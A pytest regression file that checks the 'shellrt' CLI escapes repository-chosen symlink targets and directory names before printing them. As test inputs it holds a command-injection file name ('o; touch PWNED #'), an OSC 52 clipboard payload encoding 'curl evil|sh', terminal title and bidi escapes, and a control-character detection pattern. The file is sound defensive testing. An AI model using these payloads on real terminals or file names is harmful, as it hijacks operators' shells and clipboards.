"""Round 19, interfaces: a repository's names reached the operator's terminal raw.

``shellrt trust add`` (the operator's review of a hostile repository) quoted a settings file's
symlink target as is, inside commands it told the operator to run: a target named
``o; touch PWNED #<OSC 52>`` wrote the clipboard when printed, and the suggested
``cp --remove-destination <target> …`` ran ``touch PWNED`` when pasted. ``shellrt permissions
list`` printed a trusted workspace's ``additionalDirectories`` raw (an OSC 0 title, a bidi
override). The real CLI in a subprocess; no sandbox is involved (the text is under test).
"""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

_ROOT = Path(__file__).resolve().parents[1]
_OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
#: What a terminal acts on: ESC, BEL, C1 controls, bidi and zero-width format characters.
_ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "home").mkdir()
    return {
        **os.environ,
        "HOME": str(tmp_path / "home"),
        "XDG_STATE_HOME": str(tmp_path / "state"),
        "SHELLRT_TRUST_STORE": str(tmp_path / "trusted.json"),
        "PYTHONPATH": os.pathsep.join(filter(None, [str(_ROOT), os.environ.get("PYTHONPATH")])),
    }


def _cli(args: list[str], env: dict[str, str]) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "shellrt", *args], env=env, capture_output=True, text=True, timeout=60, check=False
    )
    return done.stdout + done.stderr


def test_trust_add_quotes_and_escapes_a_symlink_target_the_repository_chose(tmp_path: Path, env: dict[str, str]) -> None:
    repo = tmp_path / "repo"
    (repo / ".shellrt").mkdir(parents=True)
    target = f"{tmp_path}/o; touch PWNED #{_OSC52}"
    (repo / ".shellrt" / "settings.json").symlink_to(target)
    out = _cli(["trust", "add", str(repo)], env)
    assert "cannot be trusted" in out, out
    assert not _ACTIVE.search(out), ascii(out)
    suggested = re.search(r"\(cp --remove-destination (.*?)\) or pass", out)
    assert suggested is not None, out
    # Pasted into a shell, the suggestion is one cp of two words: nothing after ';' runs.
    words = shlex.split(suggested.group(1))
    assert len(words) == 2 and words[1] == str(repo / ".shellrt" / "settings.json"), words
    assert words[0].startswith(f"{tmp_path}/o; touch PWNED #"), words


def test_permissions_list_escapes_a_workspaces_additional_directories(tmp_path: Path, env: dict[str, str]) -> None:
    repo = tmp_path / "repo"
    (repo / ".shellrt").mkdir(parents=True)
    settings = {"permissions": {"additionalDirectories": ["\x1b]0;all clear\x07/tmp", "/x\u202eevil", "\x1b[2K\r/"]}}
    (repo / ".shellrt" / "settings.json").write_text(json.dumps(settings))
    out = _cli(["permissions", "list", "--workspace", str(repo), "--trust-workspace"], env)
    assert "additional directories:" in out, out
    assert not _ACTIVE.search(out), ascii(out)
    assert "\\x1b]0;all clear\\x07" in out and "\\u202e" in out, out
